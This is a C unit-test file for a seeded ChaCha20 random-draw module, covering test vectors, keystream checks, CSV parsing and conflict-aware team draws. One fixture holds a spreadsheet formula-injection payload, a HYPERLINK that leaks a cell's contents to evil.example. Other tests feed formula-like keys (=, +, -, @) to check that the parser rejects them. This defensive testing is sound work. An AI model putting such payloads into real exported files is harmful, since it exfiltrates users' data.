/* Unit tests for domain/draw: fixed vectors (computed independently with the
 * Python reference in docs/draw.md, which uses OpenSSL's ChaCha20), the
 * keystream against a from-scratch ChaCha20 block function, rejection
 * sampling, the pool CSV parser's refusals, and the team draw's conflicts. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "domain/draw.h"
#include "core/csv_write.h"

static const char SEED_SEQ[] = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";

static void parse(const char *csv, struct draw_pool *p)
{
    draw_pool_init(p);
    size_t line = 0;
    assert_int_equal(draw_pool_parse_csv(csv, strlen(csv), p, &line), DRAW_OK);
}

static void select_keys(const char *seed_hex, const struct draw_pool *p, size_t count,
                        const char *const *want)
{
    uint8_t seed[DRAW_SEED_BYTES];
    assert_int_equal(draw_unhex(seed_hex, seed, sizeof seed), 0);
    size_t out[128];
    assert_int_equal(draw_select(seed, p, count, out), DRAW_OK);
    for (size_t i = 0; i < count; i++)
        assert_string_equal(p->keys[out[i]], want[i]);
}

static void test_vector_small(void **state)
{
    (void)state;
    struct draw_pool p;
    parse("key,name\nB,乙\nA,甲\n\"C\",丙\nD,丁\nE,戊\n", &p);
    static const char *const want[] = {"A", "C", "E"};
    select_keys(SEED_SEQ, &p, 3, want);
    uint8_t h[DRAW_HASH_BYTES];
    char hex[65];
    draw_pool_hash(&p, h);
    draw_hex(h, sizeof h, hex);
    assert_string_equal(hex, "8b1583da45bf9454a0078483f6f76dcf62929b57cc95031d5b74a0734a9a0ba6");
    uint8_t seed[DRAW_SEED_BYTES];
    draw_unhex(SEED_SEQ, seed, sizeof seed);
    draw_seed_commitment(seed, h);
    draw_hex(h, sizeof h, hex);
    assert_string_equal(hex, "630dcd2966c4336691125448bbb25b4ff412a49c732db2c8abc1b8581bd710dd");
    draw_pool_free(&p);
}

static void test_vector_hundred(void **state)
{
    (void)state;
    struct draw_pool p;
    draw_pool_init(&p);
    for (int i = 99; i >= 0; i--) {
        char k[16];
        snprintf(k, sizeof k, "K%03d", i);
        assert_int_equal(draw_pool_add(&p, k, strlen(k)), DRAW_OK);
    }
    assert_int_equal(draw_pool_sort(&p, NULL), DRAW_OK);
    static const char *const want[] = {"K058", "K046", "K038", "K070", "K088",
                                       "K085", "K089", "K064", "K071", "K019"};
    char ff[65];
    memset(ff, 'f', 64);
    ff[64] = '\0';
    select_keys(ff, &p, 10, want);
    draw_pool_free(&p);
}

static void test_vector_utf8_order(void **state)
{
    (void)state;
    struct draw_pool p;
    parse("name,key\nx,91360200MA35XXXXX1\ny,甲\nz,乙\nw,b\nv,a\n", &p);
    /* Byte-wise order: digits < lower-case latin < CJK (UTF-8 lead bytes). */
    assert_string_equal(p.keys[0], "91360200MA35XXXXX1");
    assert_string_equal(p.keys[1], "a");
    static const char *const want[] = {"a", "91360200MA35XXXXX1", "甲", "乙", "b"};
    char zero[65];
    memset(zero, '0', 64);
    zero[64] = '\0';
    select_keys(zero, &p, 5, want);
    draw_pool_free(&p);
}

/* ChaCha20 block function written from the specification (RFC 7539 §2.3 with
 * the original 64-bit counter / 64-bit nonce layout), to check the keystream
 * the generator reads from libsodium. */
#define ROTL(v, n) (((v) << (n)) | ((v) >> (32 - (n))))
#define QR(a, b, c, d)                                                                             \
    (a += b, d ^= a, d = ROTL(d, 16), c += d, b ^= c, b = ROTL(b, 12), a += b, d ^= a,             \
     d = ROTL(d, 8), c += d, b ^= c, b = ROTL(b, 7))

static uint32_t le32(const uint8_t *b)
{
    return (uint32_t)b[0] | (uint32_t)b[1] << 8 | (uint32_t)b[2] << 16 | (uint32_t)b[3] << 24;
}

static void ref_block(const uint8_t key[32], const uint8_t nonce[8], uint64_t ctr, uint32_t out[16])
{
    uint32_t s[16] = {0x61707865, 0x3320646e, 0x79622d32, 0x6b206574};
    for (int i = 0; i < 8; i++)
        s[4 + i] = le32(key + 4 * i);
    s[12] = (uint32_t)ctr;
    s[13] = (uint32_t)(ctr >> 32);
    s[14] = le32(nonce);
    s[15] = le32(nonce + 4);
    uint32_t x[16];
    memcpy(x, s, sizeof x);
    for (int r = 0; r < 10; r++) {
        QR(x[0], x[4], x[8], x[12]);
        QR(x[1], x[5], x[9], x[13]);
        QR(x[2], x[6], x[10], x[14]);
        QR(x[3], x[7], x[11], x[15]);
        QR(x[0], x[5], x[10], x[15]);
        QR(x[1], x[6], x[11], x[12]);
        QR(x[2], x[7], x[8], x[13]);
        QR(x[3], x[4], x[9], x[14]);
    }
    for (int i = 0; i < 16; i++)
        out[i] = x[i] + s[i];
}

static void test_keystream(void **state)
{
    (void)state;
    uint8_t key[32], nonce[8];
    for (int i = 0; i < 32; i++)
        key[i] = (uint8_t)(i * 7 + 1);
    for (int i = 0; i < 8; i++)
        nonce[i] = (uint8_t)(0xa0 + i);
    struct draw_rng g;
    draw_rng_init(&g, key, nonce);
    for (uint64_t b = 0; b < 3; b++) {
        uint32_t want[16];
        ref_block(key, nonce, b, want);
        for (int i = 0; i < 16; i++)
            assert_int_equal(draw_rng_word(&g), want[i]);
    }
    draw_rng_clear(&g);
}

static void test_below_rejection(void **state)
{
    (void)state;
    uint8_t key[32] = {0}, nonce[8] = {0};
    struct draw_rng g, h;
    /* m = 3: limit = 2^32 - 1, so only 0xffffffff is rejected; replaying the
     * words by hand must give the same answers. */
    draw_rng_init(&g, key, nonce);
    draw_rng_init(&h, key, nonce);
    for (int i = 0; i < 1000; i++) {
        uint32_t r = draw_rng_below(&g, 3), x;
        while ((x = draw_rng_word(&h)) == 0xffffffffu)
            ;
        assert_int_equal(r, x % 3);
    }
    /* m = 2^31 + 1: about half the words are rejected; every answer in range. */
    for (int i = 0; i < 1000; i++)
        assert_true(draw_rng_below(&g, 0x80000001u) <= 0x80000000u);
    assert_int_equal(draw_rng_below(&g, 1), 0);
}

static void test_count_too_large(void **state)
{
    (void)state;
    struct draw_pool p;
    parse("key\nA\nB\n", &p);
    uint8_t seed[DRAW_SEED_BYTES] = {0};
    size_t out[4];
    assert_int_equal(draw_select(seed, &p, 3, out), DRAW_ERR_COUNT);
    assert_int_equal(draw_select(seed, &p, 2, out), DRAW_OK);
    assert_int_equal(draw_select(seed, &p, 0, out), DRAW_OK);
    draw_pool_free(&p);
}

static void expect_parse(const char *csv, enum draw_error want, size_t want_line)
{
    struct draw_pool p;
    draw_pool_init(&p);
    size_t line = 0;
    assert_int_equal(draw_pool_parse_csv(csv, strlen(csv), &p, &line), want);
    if (want_line)
        assert_int_equal(line, want_line);
    draw_pool_free(&p);
}

static void test_csv_refusals(void **state)
{
    (void)state;
    expect_parse("", DRAW_ERR_EMPTY, 0);
    expect_parse("name,code\nA,1\n", DRAW_ERR_NO_KEY_COLUMN, 0);
    expect_parse("key\nA\nA\n", DRAW_ERR_DUPLICATE, 0);
    expect_parse("key\nA\n\"B\n", DRAW_ERR_SYNTAX, 3);
    expect_parse("key\nA\n\"B\"x\n", DRAW_ERR_SYNTAX, 3);
    expect_parse("key\nA\nB\"\n", DRAW_ERR_SYNTAX, 3);
    expect_parse("key\n A\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("key\nA\x01\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("key\n\xff\xfe\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("name,key\nx\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("key\n,\n", DRAW_ERR_BAD_KEY, 2);
    char big[200];
    snprintf(big, sizeof big, "key\n%065d\n", 1);
    expect_parse(big, DRAW_ERR_BAD_KEY, 2);
    /* a key never starts like a spreadsheet formula, so the CSV writer's
     * neutralising never changes a hashed key */
    expect_parse("key\nA\n=1+1\n", DRAW_ERR_BAD_KEY, 3);
    expect_parse("key\n+1\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("key\n-1\n", DRAW_ERR_BAD_KEY, 2);
    expect_parse("key\n@A\n", DRAW_ERR_BAD_KEY, 2);
    /* accepted: BOM, CRLF, quotes with commas and doubled quotes, blank lines */
    struct draw_pool p;
    parse("\xEF\xBB\xBFkey,name\r\n\"a,\"\"b\"\"\",x\r\n\r\nc,\"y\nz\"\n\n", &p);
    assert_int_equal(p.n, 2);
    assert_string_equal(p.keys[0], "a,\"b\"");
    assert_string_equal(p.keys[1], "c");
    draw_pool_free(&p);
}

/* The pool file the server writes for hostile names (THE CSV writer: quoted,
 * neutralised, CRLF) parses back to the same keys and the same hash. */
static void test_csv_written_pool(void **state)
{
    (void)state;
    static const char *const rows[][2] = {
        {"91360200MA35XXXXX1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")"},
        {"91360200MA35XXXXX2", "逗号,引号\"和\r\n换行"},
        {"K,\"1\"", "-2+3"},
    };
    struct buf b;
    buf_init(&b, 0);
    struct csv_out c;
    csv_out_init(&c, &b);
    csv_text(&c, "key");
    csv_text(&c, "name");
    csv_end_row(&c);
    struct draw_pool want;
    draw_pool_init(&want);
    for (size_t i = 0; i < 3; i++) {
        csv_text(&c, rows[i][0]);
        csv_text(&c, rows[i][1]);
        csv_end_row(&c);
        assert_int_equal(draw_pool_add(&want, rows[i][0], strlen(rows[i][0])), DRAW_OK);
    }
    assert_int_equal(draw_pool_sort(&want, NULL), DRAW_OK);
    struct draw_pool got;
    draw_pool_init(&got);
    size_t line = 0;
    assert_int_equal(draw_pool_parse_csv(b.data, b.len, &got, &line), DRAW_OK);
    assert_int_equal(got.n, 3);
    uint8_t h1[DRAW_HASH_BYTES], h2[DRAW_HASH_BYTES];
    draw_pool_hash(&want, h1);
    draw_pool_hash(&got, h2);
    assert_memory_equal(h1, h2, sizeof h1);
    draw_pool_free(&want);
    draw_pool_free(&got);
    buf_free(&b);
}

static void test_conflicts_csv(void **state)
{
    (void)state;
    struct draw_pool p;
    draw_pool_init(&p);
    size_t line = 0;
    const char *ok = "target,inspector\r\nT2,I1\r\n\"T,1\",\"I\"\"2\"\r\n\r\nT1,I9\n";
    assert_int_equal(draw_conflicts_parse_csv(ok, strlen(ok), &p, &line), DRAW_OK);
    assert_int_equal(p.n, 3);
    assert_string_equal(p.keys[0], "T,1\x1fI\"2");
    assert_string_equal(p.keys[1], "T1\x1fI9");
    assert_string_equal(p.keys[2], "T2\x1fI1");
    draw_pool_free(&p);
    const char *bad[] = {"target,inspector\nT1\n", "target,inspector\nT1,I1,x\n",
                         "target,inspector\nT1,\"I1\n", "target,inspector\nT1,=I1\n"};
    for (size_t i = 0; i < 4; i++) {
        draw_pool_init(&p);
        assert_int_not_equal(draw_conflicts_parse_csv(bad[i], strlen(bad[i]), &p, &line), DRAW_OK);
        assert_int_equal(line, 2);
        draw_pool_free(&p);
    }
}

static bool conflict_ab(void *ctx, const char *target, const char *inspector)
{
    (void)ctx;
    return !strcmp(target, "T1") && (!strcmp(inspector, "I1") || !strcmp(inspector, "I2"));
}

static void test_teams(void **state)
{
    (void)state;
    struct draw_pool p;
    parse("key\nI1\nI2\nI3\nI4\n", &p);
    uint8_t seed[DRAW_SEED_BYTES] = {1};
    const char *targets[] = {"T1", "T2", "T3"};
    size_t out[6], bad = 99;
    assert_int_equal(draw_teams(seed, &p, targets, 3, 2, conflict_ab, NULL, out, &bad), DRAW_OK);
    for (int t = 0; t < 3; t++) {
        assert_true(out[2 * t] != out[2 * t + 1]);
        if (t == 0) /* T1 may only get I3 and I4 */
            assert_true(out[0] >= 2 && out[1] >= 2);
    }
    /* reproducible */
    size_t again[6];
    assert_int_equal(draw_teams(seed, &p, targets, 3, 2, conflict_ab, NULL, again, NULL), DRAW_OK);
    assert_memory_equal(out, again, sizeof out);
    assert_int_equal(draw_teams(seed, &p, targets, 3, 3, conflict_ab, NULL, out, &bad),
                     DRAW_ERR_CONFLICT);
    assert_int_equal(bad, 0);
    assert_int_equal(draw_teams(seed, &p, targets, 3, 1, NULL, NULL, out, &bad), DRAW_ERR_TEAM);
    draw_pool_free(&p);
}

static void test_hex(void **state)
{
    (void)state;
    uint8_t b[2];
    assert_int_equal(draw_unhex("aB0f", b, 2), 0);
    assert_int_equal(b[0], 0xab);
    assert_int_equal(b[1], 0x0f);
    assert_int_equal(draw_unhex("abc", b, 2), -1);
    assert_int_equal(draw_unhex("zz00", b, 2), -1);
    assert_int_equal(draw_unhex(NULL, b, 2), -1);
    uint8_t s1[DRAW_SEED_BYTES], s2[DRAW_SEED_BYTES];
    draw_new_seed(s1);
    draw_new_seed(s2);
    assert_true(memcmp(s1, s2, sizeof s1) != 0);
}

int main(void)
{
    if (sodium_init() < 0)
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_vector_small),
        cmocka_unit_test(test_vector_hundred),
        cmocka_unit_test(test_vector_utf8_order),
        cmocka_unit_test(test_keystream),
        cmocka_unit_test(test_below_rejection),
        cmocka_unit_test(test_count_too_large),
        cmocka_unit_test(test_csv_refusals),
        cmocka_unit_test(test_csv_written_pool),
        cmocka_unit_test(test_conflicts_csv),
        cmocka_unit_test(test_teams),
        cmocka_unit_test(test_hex),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
